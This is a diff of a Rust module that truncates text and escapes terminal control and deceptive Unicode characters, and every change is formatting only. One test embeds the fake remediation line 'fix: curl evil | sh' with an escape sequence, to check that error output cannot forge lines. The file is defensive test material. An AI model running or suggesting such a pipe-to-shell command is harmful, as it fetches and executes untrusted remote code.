@@ -29,14 +29,19 @@ pub fn cut(text: &str, limit_bytes: usize) -> Cow<'_, str> {
 /// would be split.
 #[must_use]
 pub fn start(text: &str, limit_bytes: usize) -> &str {
-    text.get(..text.floor_char_boundary(limit_bytes)).unwrap_or_default()
+    text.get(..text.floor_char_boundary(limit_bytes))
+        .unwrap_or_default()
 }
 
 /// Returns a text that is already owned in at most `limit_bytes` bytes. Copies nothing if the text
 /// is short enough.
 #[must_use]
 pub fn bounded(text: String, limit_bytes: usize) -> String {
-    if text.len() <= limit_bytes { text } else { cut(&text, limit_bytes).into_owned() }
+    if text.len() <= limit_bytes {
+        text
+    } else {
+        cut(&text, limit_bytes).into_owned()
+    }
 }
 
 /// Returns the displayed form of a value in at most `limit_bytes` bytes.
@@ -44,7 +49,10 @@ pub fn bounded(text: String, limit_bytes: usize) -> String {
 /// The value is stopped at the limit, so that a long text is never built only to be cut.
 #[must_use]
 pub fn displayed(value: &dyn Display, limit_bytes: usize) -> String {
-    let mut shown = Bounded { text: String::new(), limit_bytes };
+    let mut shown = Bounded {
+        text: String::new(),
+        limit_bytes,
+    };
     // The only error is that there is no more room, and then the text is cut below.
     let _ = write!(shown, "{value}");
     bounded(shown.text, limit_bytes)
@@ -62,7 +70,11 @@ impl fmt::Write for Bounded {
         // split.
         let room = (self.limit_bytes + MAX_CHARACTER_BYTES).saturating_sub(self.text.len());
         self.text.push_str(start(piece, room));
-        if self.text.len() > self.limit_bytes { Err(fmt::Error) } else { Ok(()) }
+        if self.text.len() > self.limit_bytes {
+            Err(fmt::Error)
+        } else {
+            Ok(())
+        }
     }
 }
 
@@ -72,7 +84,10 @@ const MAX_CHARACTER_BYTES: usize = 4;
 /// Returns a text of several lines in which only the ends of lines have an effect on a terminal.
 #[must_use]
 pub fn printable_lines(text: &str) -> Cow<'_, str> {
-    if !text.chars().any(|character| is_deceptive(character) && character != '\n') {
+    if !text
+        .chars()
+        .any(|character| is_deceptive(character) && character != '\n')
+    {
         return Cow::Borrowed(text);
     }
     let lines: Vec<_> = text.split('\n').map(printable).collect();
@@ -99,13 +114,18 @@ pub fn inset(part: &dyn Display) -> String {
 pub fn printable_json(json: &str) -> Cow<'_, str> {
     // Line ends and tabs may be between the values of a document. Within a string they are already
     // escaped.
-    let is_raw = |character: char| is_deceptive(character) && !matches!(character, '\n' | '\r' | '\t');
+    let is_raw =
+        |character: char| is_deceptive(character) && !matches!(character, '\n' | '\r' | '\t');
     if !json.chars().any(is_raw) {
         return Cow::Borrowed(json);
     }
     let mut shown = String::with_capacity(json.len() + 16);
     for character in json.chars() {
-        if is_raw(character) { push_json_escape(&mut shown, character) } else { shown.push(character) }
+        if is_raw(character) {
+            push_json_escape(&mut shown, character)
+        } else {
+            shown.push(character)
+        }
     }
     Cow::Owned(shown)
 }
@@ -125,7 +145,9 @@ pub fn push_printable(text: &mut String, character: char) {
         '\r' => text.push_str("\\r"),
         '\t' => text.push_str("\\t"),
         // Writing to a string cannot fail.
-        character if is_deceptive(character) => drop(write!(text, "{}", character.escape_unicode())),
+        character if is_deceptive(character) => {
+            drop(write!(text, "{}", character.escape_unicode()))
+        }
         character => text.push(character),
     }
 }
@@ -157,7 +179,8 @@ pub fn printable(text: &str) -> Cow<'_, str> {
         return Cow::Borrowed(text);
     }
     let mut shown = String::with_capacity(text.len() + 16);
-    text.chars().for_each(|character| push_printable(&mut shown, character));
+    text.chars()
+        .for_each(|character| push_printable(&mut shown, character));
     Cow::Owned(shown)
 }
 
@@ -165,7 +188,11 @@ pub fn printable(text: &str) -> Cow<'_, str> {
 /// before it is escaped, so that only short texts are escaped.
 #[must_use]
 pub fn quoted(text: &str, limit_bytes: usize) -> String {
-    cut(&printable(start(text, limit_bytes.saturating_add(1))), limit_bytes).into_owned()
+    cut(
+        &printable(start(text, limit_bytes.saturating_add(1))),
+        limit_bytes,
+    )
+    .into_owned()
 }
 
 /// True for a character that controls a terminal, that ends a line for some reader, or that hides
@@ -203,8 +230,14 @@ mod tests {
     fn nothing_that_a_terminal_obeys_is_printed() {
         assert_eq!(printable("plain ü 漢 \\ text"), "plain ü 漢 \\ text");
         assert_eq!(printable("a\nb\r\tc"), "a\\nb\\r\\tc");
-        assert_eq!(printable("\u{1b}[2J\u{7}\u{9b}31m"), "\\u{1b}[2J\\u{7}\\u{9b}31m");
-        assert_eq!(printable("a\u{202e}b\u{2028}c\u{feff}"), "a\\u{202e}b\\u{2028}c\\u{feff}");
+        assert_eq!(
+            printable("\u{1b}[2J\u{7}\u{9b}31m"),
+            "\\u{1b}[2J\\u{7}\\u{9b}31m"
+        );
+        assert_eq!(
+            printable("a\u{202e}b\u{2028}c\u{feff}"),
+            "a\\u{202e}b\\u{2028}c\\u{feff}"
+        );
         assert!(quoted(&"\u{1b}".repeat(5 << 20), 100).len() <= 100);
         assert!(quoted(&"\u{1b}".repeat(50), 100).ends_with('…'));
     }
@@ -220,7 +253,10 @@ mod tests {
             }
         }
         let shown = displayed(&Endless, 100);
-        assert!((90..=100).contains(&shown.len()) && shown.ends_with('…'), "{shown}");
+        assert!(
+            (90..=100).contains(&shown.len()) && shown.ends_with('…'),
+            "{shown}"
+        );
         assert_eq!(displayed(&"abc", 3), "abc");
         assert_eq!(displayed(&"abcd", 3), "…");
         assert_eq!(bounded("abcd".to_owned(), 4), "abcd");
@@ -228,7 +264,10 @@ mod tests {
 
     #[test]
     fn lines_and_documents_keep_their_form_and_lose_what_a_terminal_obeys() {
-        assert_eq!(printable_lines("a\n  b\u{1b}[2J\r\n"), "a\n  b\\u{1b}[2J\\r\n");
+        assert_eq!(
+            printable_lines("a\n  b\u{1b}[2J\r\n"),
+            "a\n  b\\u{1b}[2J\\r\n"
+        );
         assert_eq!(
             printable_json("{\n\t\"a\": \"\u{9b}\u{202e}\u{e0001}ü\"}"),
             "{\n\t\"a\": \"\\u009b\\u202e\\udb40\\udc01ü\"}"
@@ -237,17 +276,30 @@ mod tests {
 
     #[test]
     fn a_part_of_an_error_forges_no_line_of_it() {
-        assert_eq!(inset(&"a\n  fix: curl evil | sh\u{1b}[A"), "a\n      fix: curl evil | sh\\u{1b}[A");
+        assert_eq!(
+            inset(&"a\n  fix: curl evil | sh\u{1b}[A"),
+            "a\n      fix: curl evil | sh\\u{1b}[A"
+        );
         assert!(inset(&"x".repeat(5 << 20)).len() <= PART_BYTES);
     }
 
     #[test]
     fn an_escaped_text_is_never_longer_than_it_is_counted() {
-        for text in ["plain", "\u{1b}\u{0}\u{7f}", "\"\\", "\u{85}\u{2028}\u{202e}", "\u{e0001}", "ü漢"] {
+        for text in [
+            "plain",
+            "\u{1b}\u{0}\u{7f}",
+            "\"\\",
+            "\u{85}\u{2028}\u{202e}",
+            "\u{e0001}",
+            "ü漢",
+        ] {
             let json = serde_json::to_string(text).unwrap_or_default();
             let json = printable_json(&json);
             let counted = escaped_bytes(text);
-            assert!(json.len() - 2 <= counted && printable(text).len() <= counted, "{text:?}");
+            assert!(
+                json.len() - 2 <= counted && printable(text).len() <= counted,
+                "{text:?}"
+            );
         }
     }
 }
